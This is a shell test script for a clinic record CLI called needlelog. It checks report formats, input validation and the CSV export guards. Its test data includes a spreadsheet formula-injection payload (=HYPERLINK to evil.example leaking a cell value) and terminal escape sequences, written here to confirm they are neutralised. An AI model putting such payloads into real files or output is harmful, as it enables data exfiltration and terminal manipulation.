#!/bin/bash
# progress, due, audit and vocab: formats and bad input.
. "$(dirname "$0")/lib.sh"
new_db
export NEEDLELOG_TODAY=2026-03-01

run patient add --name "Ana Conceição" --consent 2026-01-01
A=$OUT
run patient add --name "Björn Åkesson" --consent 2026-01-01 --phone "+46 70 123 45 67"
B=$OUT
run series add --patient "$A" --indication fine-lines --start 2026-01-10 --area forehead
SA=$OUT
run series add --patient "$B" --indication laxity --start 2026-02-10 --area neck
SB=$OUT
run session add --series "$SA" --date 2026-01-10 --area forehead:0.5 --score gais=4
run session add --series "$SA" --date 2026-02-07 --area forehead:0.5 --score gais=3
run session add --series "$SB" --date 2026-02-10 --area neck:0.75

run progress "$SA"
expect_rc 0 "progress"
expect_out "Progress of series #$SA (Fine lines and wrinkles, active) for patient #$A Ana Conceição, as of 2026-03-01"
expect_out "Next due: 2026-03-07 (in 6 days)"
expect_out "forehead" "the depth table has the area"
run progress "$SA" --format json
json "progress json" "d['done']==2 and d['next_due']=='2026-03-07' and d['patient_name']=='Ana Conceição' and d['today']=='2026-03-01'"
rejected 66 "progress of a series that does not exist" progress 999
rejected 65 "progress with a bad --today" progress "$SA" --today 2026-02-30
rejected 64 "progress without an id" progress

run due
expect_rc 0 "due with nobody due"
expect_out "Nobody is due"
run due --within 10
expect_out "Ana Conceição" "due within 10 days"
expect_out "Björn Åkesson"
run due --within 10 --format json
json "due json: soonest first" "[r['patient_name'] for r in d] == ['Ana Conceição', 'Björn Åkesson']"
run due --today 2026-03-20 --format csv
csvrows "due csv: both overdue, most overdue first" \
	"[row[1] for row in r[1:]] == ['Ana Conceição', 'Björn Åkesson'] and r[1][8].startswith('overdue')"
rejected 65 "due --within -1" due --within -1
rejected 65 "due --within x" due --within x

run audit
expect_rc 0 "audit"
expect_out "Dr Ana Ruiz" "audit names who"
run audit --limit 2 --format json
json "audit --limit 2, newest first" "len(d)==2 and d[0]['id'] > d[1]['id']"
run audit --entity patient --id "$B" --format json
json "audit --entity patient --id" "len(d)==1 and d[0]['entity_id']==$B and d[0]['action']=='create'"
run audit --format csv --limit 0
# Two patients with --consent: each consent is a record of its own now
# (issue 11), and its create is audited: 2 patients, 2 consents, 2 series,
# 3 sessions.
csvrows "audit csv: a header and every row" "r[0][:4]==['ID','AT','WHO','ACTION'] and len(r)==10"
run audit --entity consent --format json
json "audit --entity consent: the two consents" "[(r['entity'], r['action']) for r in d] == [('consent','create')]*2"
rejected 65 "audit --limit x" audit --limit x
rejected 64 "audit --entity bogus" audit --entity bogus

# ---- issue 9: the command line is parsed by one table per command ----------
# An option given twice is refused (64), naming it; nothing changes.
rejected 64 "due --within given twice" due --within 1 --within 2
expect_err "--within is given twice"
rejected 64 "progress --format given twice" progress "$SA" --format json --format text
expect_err "--format is given twice"
rejected 64 "progress --today given twice" progress "$SA" --today 2026-03-01 --today 2026-03-02
expect_err "--today is given twice"
rejected 64 "audit --limit given twice" audit --limit 1 --limit 2
expect_err "--limit is given twice"
rejected 64 "audit --entity given twice" audit --entity patient --entity series
expect_err "--entity is given twice"
rejected 64 "vocab --format given twice" vocab --format json --format text
expect_err "--format is given twice"
rejected 64 "export --series given twice" export --patient "$A" --series "$SA" --series "$SB" --format text
expect_err "--series is given twice"
rejected 64 "export --patient given twice" export --patient "$A" --patient "$B" --format text
expect_err "--patient is given twice"
rejected 64 "export --format given twice" export --patient "$A" --format text --format md
expect_err "--format is given twice"
rejected 64 "export -o and --output" export --patient "$A" --format text -o "$T_DIR/a.txt" --output "$T_DIR/b.txt"
expect_err "--output is given twice"
check "no file from a refused export" test ! -e "$T_DIR/a.txt" -a ! -e "$T_DIR/b.txt"
rejected 64 "backup --practitioner given twice" backup "$T_DIR/b.db" --practitioner A --practitioner B
check "no copy from a refused backup" test ! -e "$T_DIR/b.db"

# Numbers are plain digits (65): no blank, sign, leading zero, hex or exponent.
for v in " 1" "+1" "-0" "01" "1e0" "0x1" "1.0"; do
	rejected 65 "due --within '$v'" due --within "$v"
	rejected 65 "audit --limit '$v'" audit --limit "$v"
done
rejected 65 "demo --seed '+1'" demo --db "$T_DIR/seed.db" --no-tui --seed +1
check "no demo file from a refused seed" test ! -e "$T_DIR/seed.db"
rejected 65 "demo --seed ' 1'" demo --db "$T_DIR/seed.db" --no-tui --seed " 1"
# Ids are part of the command line (64).
rejected 64 "progress ' 1'" progress " $SA"
rejected 64 "progress '+1'" progress "+$SA"
rejected 64 "audit --id -0" audit --id -0
rejected 64 "export --patient 0x1" export --patient 0x1 --format text
rejected 64 "export --series ' 1'" export --patient "$A" --series " $SA" --format text

# Text values: invalid UTF-8, control characters and huge values are
# refused (65) with a short message that shows the value safely.
# 131,000 bytes: as much as one argument may hold.
BIG=$(head -c 131000 /dev/zero | tr '\0' x)
ESC=$(printf 'Praxis \033]0;pwn\007 \033[2J')
BAD=$(printf 'Praxis \377\376')
no_raw_controls() { ! printf '%s' "$ERR" | grep -q "$(printf '[\001-\010\013-\037\177]')"; }
rejected 65 "export --practice of 128 KiB" export --patient "$A" --format text --practice "$BIG"
check "the message is clipped (${#ERR} bytes)" test "${#ERR}" -lt 1000
rejected 65 "export --practice with invalid UTF-8" export --patient "$A" --format text --practice "$BAD"
check "no invalid UTF-8 echoed" python3 -c 'import sys; sys.stdin.buffer.read().decode("utf-8")' <"$T_DIR/stderr"
rejected 65 "export --practice with escapes" export --patient "$A" --format text --practice "$ESC"
expect_err '\x1b' "ESC is shown as \\x1b"
check "no raw control character on stderr" no_raw_controls
NEEDLELOG_PRACTICE="$ESC" rejected 65 "\$NEEDLELOG_PRACTICE with escapes" export --patient "$A" --format text
check "no raw control character on stderr" no_raw_controls
NEEDLELOG_PRACTICE="$BIG" rejected 65 "\$NEEDLELOG_PRACTICE of 128 KiB" export --patient "$A" --format text
check "the message is clipped (${#ERR} bytes)" test "${#ERR}" -lt 1000
rejected 65 "export --practitioner with escapes" export --patient "$A" --format text --practitioner "$ESC"
rejected 65 "export --practitioner of 128 KiB" export --patient "$A" --format text --practitioner "$BIG"
rejected 65 "backup --practitioner with invalid UTF-8" backup "$T_DIR/b.db" --practitioner "$BAD"
check "no copy from a refused backup" test ! -e "$T_DIR/b.db"
NEEDLELOG_PRACTITIONER="$ESC" rejected 65 "audit with escapes in \$NEEDLELOG_PRACTITIONER" audit
rejected 65 "audit --entity of 128 KiB" audit --entity "$BIG"
check "the message is clipped (${#ERR} bytes)" test "${#ERR}" -lt 1000
rejected 65 "audit --entity with escapes" audit --entity "$ESC"
check "no raw control character on stderr" no_raw_controls
rejected 65 "export -o with escapes" export --patient "$A" --format text -o "$T_DIR/$ESC"
rejected 65 "export --format with escapes" export --patient "$A" --format "$(printf 'te\033xt')"
expect_err '\x1b' "the bad format is shown safely"
rejected 64 "export --format with a long unknown name" export --patient "$A" --format "$(printf 'x%.0s' $(seq 300))"
check "the unknown format is clipped (${#ERR} bytes)" test "${#ERR}" -lt 1000

# CSV: formula leaders guarded, ';' quoted; a byte order mark only with --bom.
run patient add --name '=HYPERLINK("http://evil.example/?"&A1,"x")' --phone "-2+3"
F1=$OUT
run patient add --name "@Dr Evil" --phone "+1 555 0100"
F2=$OUT
run patient add --name "ok;=1+1"
F3=$OUT
for p in "$F1" "$F2" "$F3"; do
	run series add --patient "$p" --indication fine-lines --start 2026-01-10 --area forehead
	run session add --series "$OUT" --date 2026-01-10 --area forehead:0.5
done
run due --format csv
expect_rc 0 "due csv with formula-like names"
csvrows "due csv: formula leaders guarded with a quote" \
	"{row[1] for row in r[1:]} >= {'\\'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")', \"'@Dr Evil\", 'ok;=1+1'}"
csvrows "due csv: '-2+3' and '+1 555 0100' guarded" \
	"{row[2] for row in r[1:]} >= {\"'-2+3\", \"'+1 555 0100\"}"
expect_out '"ok;=1+1"' "a field with ';' is quoted"
check "due csv has no BOM by default" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" != efbbbf
run due --format csv --bom
check "due csv --bom starts with a BOM" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" = efbbbf
rejected 64 "due --bom without csv" due --bom
expect_err "--bom goes with --format csv"
# the audit names the user (issue 14): a user named like a formula
NEEDLELOG_NEW_PASSPHRASE=evil-doctor-pass run user add "@Dr Evil"
NEEDLELOG_USER="@Dr Evil" NEEDLELOG_PASSPHRASE=evil-doctor-pass NEEDLELOG_PRACTITIONER="@Dr Evil" \
	run patient edit "$F3" --notes "seen by the evil doctor"
run audit --format csv --limit 1
csvrows "audit csv: who guarded" "r[1][2] == \"'@Dr Evil\""
run audit --format csv --limit 1 --bom
check "audit csv --bom starts with a BOM" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" = efbbbf
rejected 64 "audit --bom without csv" audit --bom --format json
run due
expect_rc 0 "due as text"
expect_out "@Dr Evil" "due text shows the names"

# export --format csv: a BOM unless --no-bom.
run export --patient "$A" --format csv
check "export csv starts with a BOM" test "$(printf '%s' "$OUT" | head -c 3 | od -An -tx1 | tr -d ' ')" = efbbbf
run export --patient "$A" --format csv --no-bom
expect_rc 0 "export csv --no-bom"
check "export csv --no-bom has none" test "$(printf '%s' "$OUT" | head -c 10)" = patient_id
rejected 64 "export --no-bom without csv" export --patient "$A" --format text --no-bom
expect_err "--no-bom goes with --format csv"

# Every report's --help is complete.
for cmd in progress due vocab audit export backup demo; do
	run $cmd --help
	if [ "$RC" = 0 ] && has "$OUT" "usage: needlelog $cmd" && has "$OUT" "Common options:"; then
		ok "'$cmd --help' shows its usage and options"
	else
		not_ok "'$cmd --help' shows its usage and options"
	fi
done
run export --help
expect_out "-o, --output FILE" "export --help documents -o"
expect_out "--no-bom" "export --help documents --no-bom"
run due --help
expect_out "--bom" "due --help documents --bom"

# The record file's errors map to their exit codes.
NEEDLELOG_PASSPHRASE=wrong run patient list
expect_rc 77 "a wrong passphrase"
NEEDLELOG_DB="$T_DIR/missing.db" run patient list
expect_rc 66 "no record file"
expect_err "needlelog init" "the message says what to do"
# ---- issue 11: unsigned sessions chased; the new vocabularies ----------------
new_db
run patient add --name "Una Signed" --consent 2026-01-01
U=$OUT
run series add --patient "$U" --indication fine-lines --area forehead --start 2026-02-01
US=$OUT
run session add --series "$US" --date 2026-02-26 --area forehead:0.5 --practitioner "Sam Okafor RN"
OLD=$OUT
run session add --series "$US" --date 2026-02-27 --area forehead:0.5
DAY2=$OUT
run session add --series "$US" --date 2026-02-28 --area forehead:0.5
YESTERDAY=$OUT
run session add --series "$US" --date 2026-02-25 --area forehead:0.5 --sign
run due
expect_rc 0 "due with unsigned sessions"
expect_out "Unsigned more than 24 hours after their date" "a section of its own"
expect_out "Una Signed" "names the patient"
expect_out "Sam Okafor RN" "and who treated"
run due --unsigned --format json
json "due --unsigned json: unsigned for more than 24 hours after their date, oldest first" \
	"[(r['session_id'], r['date'], r['days']) for r in d] == [($OLD, '2026-02-26', 3), ($DAY2, '2026-02-27', 2)]"
json "yesterday's session is not chased yet; a signed one never" \
	"$YESTERDAY not in [r['session_id'] for r in d]"
run due --unsigned --format csv
csvrows "due --unsigned csv: its own header and rows" \
	"r[0] == ['SESSION', 'PATIENT', 'NAME', 'SERIES', 'DATE', 'DAYS', 'PRACTITIONER'] and len(r) == 3"
run due --format json
json "due json keeps its shape: the due series, an array" "isinstance(d, list) and all('series_id' in r for r in d)"
run session sign "$OLD"
run session void "$DAY2" --reason "Entered in error"
run due --unsigned --format json
json "a signed or voided session leaves the list" "d == []"
run due --unsigned
expect_out "No session is left unsigned"
rejected 64 "--unsigned with --within" due --unsigned --within 3
rejected 64 "--unsigned given twice" due --unsigned --unsigned

run vocab
expect_out "Sexes (--sex):" "vocab lists the sexes"
expect_out "propylene-glycol" "the allergens"
expect_out "Severe / anaphylaxis" "the severities"
expect_out "antiplatelet" "the medications"
expect_out "photography-publication" "the consent kinds"
expect_out "emla              lidocaine, prilocaine" "the ingredient table"
expect_out "Warning rules" "the warning rules"
expect_out "skin-type-interval" "each rule's code"
expect_out "scalp exempt" "and what it checks"
run vocab --format json
json "vocab json: the new vocabularies" \
	"[s['code'] for s in d['sexes']] == ['female', 'male', 'other', 'unknown'] and 'nickel' in [a['code'] for a in d['allergens']] and [s['code'] for s in d['severities']] == ['mild', 'moderate', 'severe'] and 'anticoagulant' in [m['code'] for m in d['medications']] and [k['code'] for k in d['consent_kinds']] == ['treatment', 'photography-clinical', 'photography-publication']"
json "vocab json: every warning rule with what it checks" \
	"{r['code'] for r in d['warning_rules']} >= {'depth-range', 'no-consent', 'allergen', 'nickel', 'bleeding-risk', 'expired', 'skin-type-interval'} and all(r['checks'] for r in d['warning_rules'])"
json "vocab json: EMLA is lidocaine and prilocaine" \
	"[i['allergens'] for i in d['ingredients'] if i['word'] == 'emla'] == [['lidocaine', 'prilocaine']]"
finish
